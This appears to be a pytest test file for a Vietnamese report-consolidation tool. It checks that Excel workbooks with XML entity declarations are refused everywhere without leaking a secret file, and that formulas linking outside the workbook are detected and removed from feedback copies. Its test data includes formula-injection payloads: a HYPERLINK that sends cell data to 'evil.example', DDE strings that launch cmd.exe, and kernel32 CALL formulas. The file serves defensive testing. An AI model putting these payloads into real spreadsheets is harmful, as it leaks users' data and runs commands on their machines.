"""Hostile content never passes through: one verdict on every reading path, no copy of a refused file."""

from __future__ import annotations

import html
import io
import json
import re
import shutil
from pathlib import Path

import pytest

import hostile
from consolidate.read import pool as reading_pool
from consolidate.app import run as run_pipeline
from conftest import read_log, run_cli, unit_file

# Every part a reader parses; an entity declared in any of them must refuse the file everywhere.
PARTS = ["xl/worksheets/sheet1.xml", "xl/styles.xml", "xl/workbook.xml", "xl/sharedStrings.xml",
         "docProps/core.xml", "xl/_rels/workbook.xml.rels", "_rels/.rels", "xl/theme/theme1.xml"]
SECRET = "MAT-KHAU-BI-MAT"


def _secret(tmp_path: Path) -> Path:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    return secret


def _verdicts(result, name: str) -> list[str]:
    return [p.code for p in result.problems if p.file == name and p.code.startswith("file-")]


@pytest.mark.parametrize("part", PARTS)
def test_an_entity_declared_in_any_part_is_refused_by_check_a_small_run_and_a_large_run(inbox, tmp_path, part):
    bad = hostile.declared_entity(unit_file(inbox, "x-phuoc-an"), tmp_path / "xxe.xlsx", part, _secret(tmp_path))
    shutil.copy(bad, unit_file(inbox, "x-phuoc-an"))

    checked = run_cli("check", unit_file(inbox, "x-phuoc-an"))
    assert "file-unsafe" in checked.output or "nguy hiểm" in checked.output, checked.output

    small = tmp_path / "small"
    small.mkdir()
    for code in ("x-phuoc-an", "x-phuoc-son", "x-phuoc-hiep"):
        shutil.copy(unit_file(inbox, code), small)
    assert len(list(small.iterdir())) < reading_pool.MIN_FILES  # read in this process, carefully
    assert _verdicts(run_pipeline(small), "bao-cao-x-phuoc-an.xlsx") == ["file-unsafe"]

    assert len(list(inbox.iterdir())) >= reading_pool.MIN_FILES  # workers, python-calamine where screened
    large = run_pipeline(inbox)
    assert _verdicts(large, "bao-cao-x-phuoc-an.xlsx") == ["file-unsafe"]
    assert not any(SECRET in p.message for p in large.problems)


def test_the_fast_reader_never_takes_a_package_with_a_dtd(inbox, tmp_path):
    """A DTD without entities is harmless to the careful reader, which accepts it; the screen
    still leaves the decision to it, so both paths say the same."""
    plain = hostile.rewrite(unit_file(inbox, "x-phuoc-an"), tmp_path / "dtd.xlsx",
                            {"xl/styles.xml": lambda x: x.replace("?>", "?><!DOCTYPE styleSheet>", 1)})
    assert reading_pool._fast_read(plain, "dtd.xlsx") is None
    kind, sub = reading_pool.read_file(plain, "dtd.xlsx", lambda p, k: True)
    assert not [p for p in sub.problems if p.code.startswith("file-")]


def test_python_calamine_never_resolves_an_external_entity(inbox, tmp_path):
    from consolidate.read.calamine_worker import values

    bad = hostile.external_entity(unit_file(inbox, "x-phuoc-an"), tmp_path / "xxe.xlsx", _secret(tmp_path))
    try:
        sheets = values(io.BytesIO(bad.read_bytes()), 2000, 60)
    except Exception:  # refusing the file is as good as not resolving
        return
    assert SECRET not in json.dumps(sheets, ensure_ascii=False)


@pytest.mark.parametrize("files", [3, 14])
def test_a_refused_file_gets_no_feedback_copy_and_no_link(inbox, out, tmp_path, files):
    bad = hostile.declared_entity(unit_file(inbox, "x-phuoc-an"), tmp_path / "xxe.xlsx", "xl/worksheets/sheet2.xml",
                                  _secret(tmp_path))
    shutil.copy(bad, unit_file(inbox, "x-phuoc-an"))
    keep = {unit_file(inbox, c).name for c in ("x-phuoc-an", "x-phuoc-son", "x-phuoc-hiep")}
    for path in [p for p in sorted(inbox.iterdir()) if p.name not in keep][: 14 - files]:
        path.unlink()
    assert len(list(inbox.iterdir())) == files  # read here, carefully; or by the workers

    run_cli("run", inbox, "--out", out)

    assert [e["code"] for e in read_log(out) if e["file"] == "bao-cao-x-phuoc-an.xlsx"] == ["file-unsafe"]
    assert not (out / "phan-hoi" / "bao-cao-x-phuoc-an.xlsx").exists()
    page = next(out.glob("tong-hop-*.html")).read_text(encoding="utf-8")
    assert "phan-hoi/bao-cao-x-phuoc-an.xlsx" not in page


# The copy is made from the bytes that were checked -----------------------------------


def _replace_with_other_figures(path: Path) -> None:
    """The unit sends a new version under the same name, as happens while a clerk runs the tool."""
    import openpyxl

    wb = openpyxl.load_workbook(path)
    wb["Biểu mẫu 1"]["C7"] = 55
    wb.save(path)


def test_the_copy_is_made_from_the_bytes_that_were_checked(inbox, out):
    from consolidate.write.outputs import write_outputs

    import openpyxl

    result = run_pipeline(inbox)
    _replace_with_other_figures(unit_file(inbox, "x-phuoc-son"))  # after reading, before the copies

    write_outputs(result, out)

    ws = openpyxl.load_workbook(out / "phan-hoi" / "bao-cao-x-phuoc-son.xlsx")["Biểu mẫu 1"]
    assert ws["C7"].value == 7  # the figure the comment is about, not the new file's 55
    assert "Tổng số 7" in ws["C7"].comment.text


def test_a_file_replaced_during_the_run_gets_no_copy_and_a_log_entry(inbox, out):
    from consolidate.write.outputs import write_outputs

    son = unit_file(inbox, "x-phuoc-son")

    def progress(done: int, total: int) -> None:
        if done == total:  # every file read and checked: now it is replaced
            _replace_with_other_figures(son)

    result = run_pipeline(inbox, progress=progress)
    write_outputs(result, out)

    entries = [e for e in read_log(out) if e["file"] == son.name]
    assert "file-changed" in [e["code"] for e in entries]
    changed = next(e for e in entries if e["code"] == "file-changed")
    assert changed["hint"] == "Chạy lại để kiểm tra tệp mới."
    assert not (out / "phan-hoi" / son.name).exists()
    page = next(out.glob("tong-hop-*.html")).read_text(encoding="utf-8")
    assert f"phan-hoi/{son.name}" not in page


# Formulas that reach outside the workbook ---------------------------------------------

from consolidate.ooxml.external import is_external  # noqa: E402


@pytest.mark.parametrize("formula", [
    'HYPERLINK("http://evil.example/?q="&B7,5)', "hyperlink(A1)", '_xlfn.WEBSERVICE("http://x")',
    "cmd|'/C calc'!A0", "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''", "[1]Sheet1!A1", "'[2]Biểu mẫu 1'!C7",
    "SUM([1]Sheet1!A1:A3)", "'C:\\bao-cao\\[nguon.xlsx]Sheet1'!A1", 'RTD("x",,"y")', 'CALL("kernel32","x")',
    'REGISTER.ID("a","b")', "_xll.ADDIN(1)", '_xlfn.IMAGE("http://x/a.png")',
])
def test_a_formula_reaching_outside_is_recognised(formula):
    assert is_external(formula)


@pytest.mark.parametrize("formula", [
    "D7+E7+F7", "SUM(C7:C20)", '"a|b"&A1', 'IF(A1="[1]",1,0)', "Bang1[Tổng số]", "Bang1[[#This Row],[Cột]]",
    "'Biểu mẫu 1'!C7", "CALLS+1", "AVERAGE(D7:D9)", "Trong+1",
])
def test_a_formula_inside_the_workbook_is_left_alone(formula):
    assert not is_external(formula, frozenset({"NGOAI"}))


def test_a_formula_using_a_name_that_points_outside_reaches_outside():
    from consolidate.ooxml.external import external_names

    names = external_names([("Ngoai", "[1]Sheet1!$A$1"), ("Qua", "Ngoai*2"), ("Trong", "'Biểu mẫu 1'!$C$7")])
    assert names == {"NGOAI", "QUA"}
    assert is_external("Ngoai+2", names) and is_external("SUM(Sheet1!Qua)", names)
    assert not is_external("Trong+2", names)


def _external_inbox(inbox: Path, tmp_path: Path, fallback: bool = False) -> Path:
    an = unit_file(inbox, "x-phuoc-an")
    made = hostile.external_formulas(an, tmp_path / "ngoai.xlsx")
    if fallback:  # an XML comment in the marked sheet: the patcher leaves it to openpyxl
        made = hostile.rewrite(made, tmp_path / "ngoai-2.xlsx",
                               {hostile.SHEET1: lambda x: x.replace("?>", "?><!-- ghi chú -->", 1)})
    shutil.copy(made, an)
    return an


def _externals(problems) -> list[tuple[str, str]]:
    return sorted((p.sheet, p.cell) for p in problems if p.code == "formula-external")


EXPECTED = sorted(("Biểu mẫu 1", cell) for cell in hostile.EXTERNAL_FORMULAS)


def test_formulas_reaching_outside_are_logged_on_every_path(inbox, tmp_path):
    an = _external_inbox(inbox, tmp_path)
    from consolidate.app import check

    ((_, found),) = check([an])
    assert _externals(found) == EXPECTED
    small = tmp_path / "small"
    small.mkdir()
    shutil.copy(an, small)
    assert _externals(run_pipeline(small).problems) == EXPECTED
    large = run_pipeline(inbox)
    assert _externals(large.problems) == EXPECTED
    assert all(p.severity == "warning" for p in large.problems if p.code == "formula-external")
    assert not any(p.file == an.name and p.severity == "error" for p in large.problems)


@pytest.mark.parametrize("fallback", [False, True], ids=["patched", "openpyxl"])
def test_a_feedback_copy_keeps_the_value_and_drops_the_formula_that_reaches_outside(inbox, out, tmp_path, fallback):
    import zipfile

    import openpyxl

    an = _external_inbox(inbox, tmp_path, fallback)

    run_cli("run", inbox, "--out", out)

    log = [e for e in read_log(out) if e["file"] == an.name]
    assert sorted(e["cell"] for e in log if e["code"] == "formula-external") == sorted(hostile.EXTERNAL_FORMULAS)
    copy = out / "phan-hoi" / an.name
    ws = openpyxl.load_workbook(copy)["Biểu mẫu 1"]
    for cell, (_, value) in hostile.EXTERNAL_FORMULAS.items():
        assert ws[cell].value == int(value), cell  # the cached value, as a plain number
        assert "liên kết ra ngoài tệp" in ws[cell].comment.text
    assert ws[hostile.INTERNAL_FORMULA[0]].value == "=" + hostile.INTERNAL_FORMULA[1]  # a formula of its own stays
    with zipfile.ZipFile(copy) as zf:
        parts = {n: zf.read(n).decode("utf-8") for n in zf.namelist() if not n.endswith((".png", ".bin"))}
    assert not [n for n in parts if "externalLink" in n.lower()]
    formulas = [html.unescape(f) for text in parts.values() for f in re.findall(r"<(?:\w+:)?f(?:\s[^>]*)?>([^<]*)</", text)]
    assert formulas and not [f for f in formulas if is_external(f)]
    everything = "".join(parts.values())
    for gone in ("externalReference", "externalLink", "nguon-ngoai", 'name="Ngoai"'):
        assert gone not in everything, gone  # the link, its path and the name that pointed there
    if fallback:
        assert "<!--" not in everything  # made by openpyxl
